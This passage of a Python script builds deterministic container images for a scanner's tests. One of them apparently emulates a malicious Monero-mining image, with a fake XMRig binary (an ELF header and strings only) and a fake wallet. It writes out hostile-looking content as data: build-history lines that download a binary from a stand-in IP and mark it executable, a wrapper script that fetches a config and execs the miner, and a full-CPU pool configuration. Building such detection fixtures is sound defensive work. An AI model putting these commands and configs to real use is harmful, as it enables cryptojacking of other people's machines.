        cursor += len(blob)
    shoff = (cursor + 7) & ~7
    sections = [bytes(shsize)]

    def section(name_off, kind, offset, size, link=0, info=0, entsize=0, flags=0):
        if bits == 64:
            return struct.pack(end + "IIQQQQIIQQ", name_off, kind, flags, 0, offset, size, link,
                               info, 1, entsize)
        return struct.pack(end + "IIIIIIIIII", name_off, kind, flags, 0, offset, size, link,
                           info, 1, entsize)
    sections.append(section(offsets[1], 1, layout[0], len(rodata), flags=2))       # PROGBITS
    sections.append(section(offsets[2], 3, layout[1], len(shstrtab)))              # STRTAB
    if symtab:
        sections.append(section(offsets[3], 2, layout[2], len(symbols), link=4, info=1,
                                entsize=sym_size))                                  # SYMTAB
        sections.append(section(offsets[4], 3, layout[3], len(strtab)))            # STRTAB
    ident = b"\x7fELF" + bytes([1 if bits == 32 else 2, 1 if order == "little" else 2, 1, 0]) \
        + bytes(8)
    header = ident + struct.pack(end + "HHI" + addr + addr + addr + "IHHHHHH",
                                 ELF_TYPES[etype], number, 1, 0x401000, ehsize, shoff, 0, ehsize,
                                 phsize, 1, shsize, len(sections), 2)
    if bits == 64:
        program = struct.pack(end + "IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, cursor, cursor,
                              0x1000)
    else:
        program = struct.pack(end + "IIIIIIII", 1, 0, 0x400000, 0x400000, cursor, cursor, 5,
                              0x1000)
    body = rodata + shstrtab + symbols + strtab
    return header + program + body + bytes(shoff - cursor) + b"".join(sections)


# ---------------------------------------------------------------------------
# the images of the command line

EMULATION_REFERENCE = "docker.io/cryptominer/monero-xmr:latest"
FAKE_WALLET = "4" + "Fake" * 23 + "Xm"  # the shape of a Monero address (95 characters), no wallet


def emulation_image():
    """Emulation 3's image: cryptominer/monero-xmr, a fake XMRig in /opt/xmr.
    Files only: the miner is an ELF header and the strings a miner holds."""
    created = "2026-10-03T21:14:07Z"
    base = Layer([
        directory("/etc"),
        file("/etc/os-release", 'PRETTY_NAME="Alpine Linux v3.20"\nNAME="Alpine Linux"\n'
             'ID=alpine\nVERSION_ID=3.20.3\nHOME_URL="https://alpinelinux.org/"\n'),
        file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:"
             "/sbin/nologin\nminer:x:1000:1000::/home/miner:/bin/sh\n"),
        file("/etc/group", "root:x:0:root\nnobody:x:65534:\nminer:x:1000:\n"),
        file("/etc/hostname", "localhost\n"),
        directory("/home"),
        directory("/home/miner", mode=0o750, uid=1000, gid=1000, uname="miner", gname="miner"),
        directory("/tmp", mode=0o1777),
    ])
    miner = elf("x86-64", "EXEC", strings=[  # the strings of XMRig's usage text and defaults
        "xmrig", "XMRig 6.21.0", "https://xmrig.com/wallet", "donate.v2.xmrig.com",
        "donate-level", "randomx", "stratum+tcp://", "pool.supportxmr.com",
        "  -o, --url=URL                 URL of mining server",
        "      --donate-level=N          donate level, default 1%",
        "      --randomx-1gb-pages       use 1GB hugepages for RandomX dataset",
        "      --cpu-max-threads-hint=N  maximum CPU threads count (in percentage) hint",
        "rx/0", "rx/wow", "cn/r", "argon2/chukwa", "cryptonight"])
    release = "xmrig-6.21.0-linux-static-x64.tar.gz"
    archive = io.BytesIO()
    tar = TarWriter(archive)
    write_entries(tar, [directory("xmrig-6.21.0"),
                        file("xmrig-6.21.0/xmrig", miner, mode=0o755)])
    tar.close()
    fetched = Layer([file("/tmp/" + release, stored_gzip(archive.getvalue()))])
    install = Layer([
        directory("/opt"),
        directory("/opt/xmr"),
        file("/opt/xmr/xmrig", miner, mode=0o755),
    ])
    config = {
        "autosave": True, "background": False, "donate-level": 0, "donate-over-proxy": 0,
        "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 100},
        "randomx": {"init": -1, "mode": "fast", "1gb-pages": True},
        "pools": [{"algo": "rx/0", "coin": "monero", "url": "stratum+tcp://pool.supportxmr.com:3333",
                   "user": FAKE_WALLET,
                   "pass": "x", "keepalive": True, "tls": False},
                  {"url": "stratum+tcp://127.0.0.1:3333", "user": "worker", "pass": "x"}],
    }
    setup = Layer([
        file("/opt/xmr/config.json", json.dumps(config, indent=4, sort_keys=True) + "\n"),
        file("/opt/xmr/fetch-config.sh",
             "#!/bin/sh\n# refresh the pool list through the local proxy\n"
             "wget -q -O /opt/xmr/config.json http://127.0.0.1:3333/config.json\n"
             "exec /opt/xmr/xmrig -c /opt/xmr/config.json \"$@\"\n", mode=0o755),
    ])
    cleanup = Layer([whiteout("/tmp/" + release)])
    history = [
        History("/bin/sh -c #(nop) ADD file:5b0c13f1c7d6fe0b3a0e0b7b1f7d4c0e9e6f4bd2 in / ",
                "2026-09-06T22:20:07Z"),
        History('/bin/sh -c #(nop)  CMD ["/bin/sh"]', "2026-09-06T22:20:07Z", empty_layer=True),
        History(f"ADD http://203.0.113.7/{release} /tmp/ # buildkit", created,
                comment="buildkit.dockerfile.v0"),
        History("RUN /bin/sh -c wget -q http://203.0.113.7/xmrig -O /opt/xmr/xmrig "
                "&& chmod +x /opt/xmr/xmrig # buildkit", created, comment="buildkit.dockerfile.v0"),
        History("COPY config.json fetch-config.sh /opt/xmr/ # buildkit", created,
                comment="buildkit.dockerfile.v0"),
        History(f"RUN /bin/sh -c rm -f /tmp/{release} # buildkit", created,
                comment="buildkit.dockerfile.v0"),
        History("ENV POOL_URL=stratum+tcp://pool.supportxmr.com:3333", created, empty_layer=True,
                comment="buildkit.dockerfile.v0"),
        History("EXPOSE map[3333/tcp:{}]", created, empty_layer=True,
                comment="buildkit.dockerfile.v0"),
        History('ENTRYPOINT ["/opt/xmr/xmrig" "-c" "/opt/xmr/config.json"]', created,
                empty_layer=True, comment="buildkit.dockerfile.v0"),
    ]
    cfg = Config(entrypoint=["/opt/xmr/xmrig", "-c", "/opt/xmr/config.json"],
                 env=["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
                      "POOL_URL=stratum+tcp://pool.supportxmr.com:3333"],
                 labels={"org.opencontainers.image.title": "monero-xmr",
                         "org.opencontainers.image.description": "High performance Monero miner"},
                 working_dir="/opt/xmr", exposed_ports=["3333/tcp"], created=created,
                 history=history)
    return Image([base, fetched, install, setup, cleanup], cfg, reference=EMULATION_REFERENCE)


def stored_gzip(data):
    """A gzip member of `data` in stored (uncompressed) deflate blocks: the
    same bytes whatever zlib is installed."""
    body = bytearray()
    blocks = [data[i:i + 0xFFFF] for i in range(0, len(data), 0xFFFF)] or [b""]
    for index, block in enumerate(blocks):
        final = 1 if index == len(blocks) - 1 else 0
        body += bytes([final]) + struct.pack("<HH", len(block), 0xFFFF ^ len(block)) + block
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + bytes(body)
            + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF))


def write_emulation(out, ws):
    # Uncompressed layers: the bytes do not depend on the zlib in use.
    write_oci(out, [emulation_image()], ws, tar=True)


DEBIAN_PACKAGES = ["base-files", "coreutils", "bash", "grep", "sed", "tar", "gzip", "libc-bin",
                   "libc6"]
USRMERGE = ["bin", "sbin", "lib", "lib32", "lib64", "libx32"]


def _host_arch():
    machine = host_platform.machine()
    return {"x86_64": "amd64", "aarch64": "arm64", "i686": "386", "armv7l": "arm"}.get(machine,
                                                                                        machine)


def _owner_names(info):
    import grp
    import pwd
    try:
        user = pwd.getpwuid(info.st_uid).pw_name
    except KeyError:
        user = ""
    try:
        group = grp.getgrgid(info.st_gid).gr_name
    except KeyError:
        group = ""
    return dict(uid=info.st_uid, gid=info.st_gid, uname=user, gname=group)


def debian_image(packages=DEBIAN_PACKAGES, reference="debian:bookworm"):
    """The files of installed Debian packages (dpkg -L), as on this machine:
    regular files, symlinks and directories, their modes and owners. Paths go
    through merged-/usr links as the system resolves them; unreadable files
    are left out."""
    listed = set()
    for package in packages:
        run = subprocess.run(["dpkg", "-L", package], capture_output=True, text=True,
                             errors="surrogateescape")
        if run.returncode != 0:
            raise RuntimeError(f"dpkg -L {package}: {run.stderr.strip()}")
        listed.update(os.path.normpath(line) for line in run.stdout.splitlines()
                      if line.startswith("/"))
    listed.discard("/")
    entries = {}
    links = {name for name in USRMERGE if os.path.islink("/" + name)}
    for name in sorted(links):
        entries["/" + name] = symlink("/" + name, os.readlink("/" + name))
    for path in sorted(listed):
        parent, base = os.path.split(path)
        real = os.path.join(os.path.realpath(parent), base) if parent != "/" else path
        if real in entries or real == "/":
            continue
        try:
            info = os.lstat(real)
        except OSError:
            continue
        owner = _owner_names(info)
        if stat.S_ISLNK(info.st_mode):
            entries[real] = symlink(real, os.readlink(real), **owner)
        elif stat.S_ISDIR(info.st_mode):
            entries[real] = directory(real, stat.S_IMODE(info.st_mode), **owner)
        elif stat.S_ISREG(info.st_mode):
            if not os.access(real, os.R_OK):
                continue
            try:
                with open(real, "rb"):
                    pass
            except OSError:
                continue
            entries[real] = from_host(real, real, **owner)
    for path in list(entries):  # every parent directory, with the host's mode
        parent = os.path.dirname(path)
        while parent != "/" and parent not in entries:
            info = os.lstat(parent)
            entries[parent] = directory(parent, stat.S_IMODE(info.st_mode), **_owner_names(info))
            parent = os.path.dirname(parent)
    ordered = [entries[p] for p in sorted(entries, key=lambda p: p.split("/"))]
    created = "2024-06-10T00:00:00Z"
    config = Config(cmd=["bash"], env=["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:"
                                       "/sbin:/bin"],
                    architecture=_host_arch(), created=created,
                    history=[History("/bin/sh -c #(nop) ADD file:debian-bookworm-rootfs.tar.xz "
                                     "in / ", created),
                             History('/bin/sh -c #(nop)  CMD ["bash"]', created,
                                     empty_layer=True)])
    return Image([Layer(ordered)], config, reference=reference)


# The bench image: contents like a system's, mixed so that gzip gets about
# what it gets from binaries and text.
WORDS = (b"the of and to in is for on that with as by this be are from at or it an was not "
         b"which have but all can has will one their been more when there use if no other "
         b"config value error return static const struct void int char size_t buffer length "
         b"library module function import class self def print include define").split()


class _Pools:
    def __init__(self, seed):
        rng = random.Random(seed)
        self.random = memoryview(rng.randbytes(4 << 20))       # 1024 blocks of 4 KB
        lines, length = [], 0
        while length < (256 << 10):
            words = [rng.choice(WORDS) for _ in range(rng.randint(3, 14))]
            lines.append(b" ".join(words) + (b";\n" if rng.random() < 0.3 else b"\n"))
            length += len(lines[-1])
        self.text = memoryview(b"".join(lines))
        self.header = elf("x86-64", "DYN", strings=["GLIBC_2.34", "libc.so.6"])


def _bench_chunks(pools, seed, size, kind):
    """The content of one bench file: deterministic in (seed, size, kind)."""
    rng = random.Random(seed)
    piece = 4096
    local = [rng.randrange(1024) for _ in range(6)]   # a file's own repeated blocks
    produced, parts, pending = 0, [], 0
    if kind == "bin":
        parts.append(pools.header[:size])
        pending = produced = len(parts[0])
    while produced < size:
        step = min(piece, size - produced)
        choice = rng.random()
        if kind == "text" or choice < 0.35:
            start = rng.randrange(len(pools.text) - piece)
            part = pools.text[start:start + step]
        elif choice < 0.65:
            block = local[rng.randrange(len(local))] * piece
            part = pools.random[block:block + step]
        elif choice < 0.87:
            block = rng.randrange(1024) * piece
            part = pools.random[block:block + step]
        else:
            part = bytes(step)
        parts.append(part)
        produced += step
        pending += step
        if pending >= CHUNK:
            yield b"".join(parts)
            parts, pending = [], 0
    if parts:
        yield b"".join(parts)


def bench_image(total=1 << 30, files=20000, seed=1, layers=4, compression="gzip", level=1):
    """`files` files holding `total` bytes in all, over `layers` layers."""
    rng = random.Random(seed)
    weights = [rng.lognormvariate(0, 1.5) for _ in range(files)]
    scale = total / sum(weights)
    sizes = [int(w * scale) for w in weights]
    sizes[-1] += total - sum(sizes)
    pools = _Pools(seed)
    kinds = ["bin", "text", "bin", "data"]
    per_layer = [[] for _ in range(layers)]
    made = set()
    for index, size in enumerate(sizes):
        layer = index * layers // files
        folder = f"/usr/lib/bench/l{layer}/d{index // 100:03d}"
        for part in (f"/usr/lib/bench/l{layer}", folder):
            for path in ("/usr", "/usr/lib", "/usr/lib/bench", part):
                if (layer, path) not in made:
                    made.add((layer, path))
                    per_layer[layer].append(directory(path))
        kind = kinds[index % len(kinds)]
        extension = {"bin": "so", "text": "txt", "data": "dat"}[kind]
        chunks = (lambda s=seed * 1_000_003 + index, n=size, k=kind:
                  _bench_chunks(pools, s, n, k))
        per_layer[layer].append(stream(f"{folder}/f{index:06d}.{extension}", size, chunks,
                                       mode=0o755 if kind == "bin" else 0o644))
    history = [History(f"COPY bench-{i} /usr/lib/bench/l{i} # buildkit", "2026-01-01T00:00:00Z",
                       comment="buildkit.dockerfile.v0") for i in range(layers)]
    config = Config(cmd=["/bin/sh"], created="2026-01-01T00:00:00Z", history=history)
    return Image([Layer(entries, compression, level) for entries in per_layer], config,
                 reference=f"bench/image:{total}-{files}")


# ---------------------------------------------------------------------------
# command line

def _same_file(left, right):
    if os.path.getsize(left) != os.path.getsize(right):
        return False
    with open(left, "rb") as a, open(right, "rb") as b:
        while True:
            x, y = a.read(CHUNK), b.read(CHUNK)
            if x != y:
                return False
            if not x:
                return True


def _parse_size(text):
    units = {"": 1, "K": 1 << 10, "M": 1 << 20, "G": 1 << 30, "T": 1 << 40}
    text = text.strip().upper().removesuffix("IB").removesuffix("B")
    unit = text[-1:] if text[-1:] in units else ""
    return int(float(text[:-1] if unit else text) * units[unit])


def main(argv=None):
    parser = argparse.ArgumentParser(description="Deterministic container images for "
                                     "pickaxe scan.")
    commands = parser.add_subparsers(dest="command", required=True)
    emulation = commands.add_parser("emulation", help="emulation 3's malicious image (OCI "
                                    "tarball)")
    emulation.add_argument("out")
    emulation.add_argument("--check", action="store_true",
                           help="exit 1 when OUT is not what this script writes")
    debian = commands.add_parser("debian", help="a clean debian:bookworm image of installed "
                                 "packages")
    debian.add_argument("out")
    debian.add_argument("--format", choices=["docker", "oci"], default="docker")
    debian.add_argument("--package", action="append", help="instead of the default packages")
    bench = commands.add_parser("bench", help="a large OCI image for benchmarks")
    bench.add_argument("out")
    bench.add_argument("--size", default="1G", help="bytes of file content (default 1G)")
    bench.add_argument("--files", type=int, default=20000)
    bench.add_argument("--layers", type=int, default=4)
    bench.add_argument("--seed", type=int, default=1)
    bench.add_argument("--level", type=int, default=1, help="gzip level of the layers")
    bench.add_argument("--format", choices=["oci", "docker"], default="oci")
    args = parser.parse_args(argv)

    out = os.path.abspath(args.out)
    folder = os.path.dirname(out)
    if args.command == "emulation":
        with Workspace() as ws:
            if args.check:
                made = ws.path(".oci.tar")
                write_emulation(made, ws)
                if not os.path.exists(out) or not _same_file(made, out):
                    print(f"image_builder: {args.out} is not what `image_builder.py emulation` "
                          "writes; rebuild it", file=sys.stderr)
                    return 1
                return 0
            write_emulation(out, ws)
        return 0
    if args.command == "debian":
        with Workspace(dir=folder) as ws:
            image = debian_image(args.package or DEBIAN_PACKAGES)
            if args.format == "docker":
                write_docker_save(out, [image], ws)
            else:
                write_oci(out, [image], ws)
        return 0
    if args.command == "bench":
        with Workspace(dir=folder) as ws:
            image = bench_image(_parse_size(args.size), args.files, args.seed, args.layers,
                                "gzip", args.level)
            if args.format == "oci":
                write_oci(out, [image], ws)
            else:
                write_docker_save(out, [image], ws)
        return 0
    return 2


if __name__ == "__main__":
    sys.exit(main())
